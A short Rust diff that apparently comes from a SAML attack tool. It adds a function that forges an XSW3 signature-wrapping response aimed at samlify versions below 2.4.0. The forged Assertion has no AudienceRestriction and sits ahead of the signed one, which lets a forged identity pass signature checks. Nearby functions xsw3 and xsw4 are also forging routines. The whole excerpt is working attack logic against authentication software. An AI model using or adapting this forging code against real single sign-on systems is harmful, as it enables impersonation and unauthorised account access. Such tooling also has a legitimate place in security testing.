@@ -66,6 +66,19 @@ pub fn xsw3(f: &Forge) -> Result<Forged, Skip> {
     )
 }
 
+/// XSW3 for a reader of the whole document (samlify < 2.4.0): the forged Assertion, without
+/// an AudienceRestriction, before the signed one, so every field but the NameID reads once.
+pub fn forged_without_audience(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion_without_audience(&evil_id(p.assertion_id()))?;
+    forged(
+        p.splice_unsigned_response(vec![insert(p.assertion.range().start, evil)]),
+        swap,
+    )
+}
+
 /// XSW4: the forged Assertion wraps the original (signed) one as its last child.
 pub fn xsw4(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
